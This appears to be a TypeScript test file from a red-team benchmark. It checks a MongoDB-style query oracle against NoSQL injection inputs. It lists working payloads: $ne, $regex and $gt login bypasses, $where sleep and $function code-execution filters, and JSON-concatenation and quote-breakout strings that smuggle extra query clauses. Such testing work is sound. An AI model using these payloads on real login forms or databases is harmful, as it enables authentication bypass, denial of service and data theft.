import { nosql } from '../../bench/redteam/grammar/nosql.ts';
import { mingo } from '../../bench/redteam/oracle/mingo.ts';
import { nosqlRewriters } from '../../bench/redteam/rewrite/nosql.ts';
import { testOracle, testRewriters } from './laws.ts';

testOracle(mingo, {
  'log-in, form': [
    { names: ['body.username', 'body.password[$ne]'], values: ['admin', ''] },
    { names: ['body.username[$regex]', 'body.password[$gt]'], values: ['^a', ''] },
  ],
  'log-in, JSON': [{ names: ['body.username', 'body.password.$ne'], values: ['admin', 'x'] }],
  'token, form': [{ names: ['query.token[$not][$eq]'], values: ['x'] }],
  'token, JSON text': [['{"$ne":null}'], ['{"$regex":".*"}']],
  'filter, JSON text': [
    ['{"$where":"sleep(5000)"}'],
    ['{"$expr":{"$function":{"body":"function() { return true; }","args":[],"lang":"js"}}}'],
  ],
  'JSON by concatenation, string': [['x","owner":{"$ne":1},"email":"admin@shop.test']],
  'JSON by concatenation, number': [['{"$gt":0},"owner":"admin"']],
  'JSON by concatenation, log-in': [['admin', 'x","password":{"$ne":"x"},"username":"admin']],
  'where, single quotes': [["' || '1'=='1"], ["'; return true; var a='"], ["'; sleep(5000); '"]],
  'where, double quotes': [['"||1//']],
  'where, template literal': [['${sleep(1)}']],
  'where, number': [['1||true']],
  'where, function': [["')||1||('"]],
  'where, regular expression': [['x/.test(1)||1||/x']],
  'where, property': [['username||1||this.age']],
  'where, log-in': [["admin'//", '']],
});

testRewriters(mingo, nosql, nosqlRewriters);
